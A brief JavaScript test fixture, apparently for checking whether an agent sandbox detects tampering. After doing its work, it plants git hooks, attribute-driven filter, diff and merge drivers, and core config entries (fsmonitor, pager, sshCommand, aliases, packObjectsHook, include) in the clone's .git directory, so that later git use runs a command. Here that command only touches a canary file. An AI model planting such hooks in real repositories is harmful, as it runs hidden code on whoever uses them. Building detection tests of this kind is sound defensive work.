// Does its work, and leaves programs in the configuration of its clone for whoever runs git in it.
import { appendFileSync } from 'node:fs';
import { doTheWork, finish, told, write } from '../kit.mjs';

export function misbehave() {
  doTheWork();
  const run = `touch ${told('trap')}`;
  write('.git/attributes', '');
  write('.git/info/attributes', '* filter=evil diff=evil merge=evil\n');
  write('.git/evil/trap.sh', `#!/bin/sh\n${run}\n`);
  for (const hook of ['pre-commit', 'post-checkout', 'reference-transaction', 'post-index-change']) {
    write(`.git/hooks/${hook}`, `#!/bin/sh\n${run}\n`);
  }
  appendFileSync(
    '.git/config',
    [
      `[core]\n\thooksPath = .git/hooks\n\tfsmonitor = ${run}\n\tpager = ${run}\n\tsshCommand = ${run}`,
      `[filter "evil"]\n\tclean = ${run}; cat\n\tsmudge = ${run}; cat\n\trequired = true`,
      `[diff "evil"]\n\tcommand = ${run}\n\ttextconv = ${run}`,
      `[alias]\n\tstatus = !${run}\n\trev-list = !${run}`,
      `[uploadpack]\n\tpackObjectsHook = ${run}\n[include]\n\tpath = ${process.cwd()}/.git/evil/more\n`,
    ].join('\n'),
  );
  finish();
}
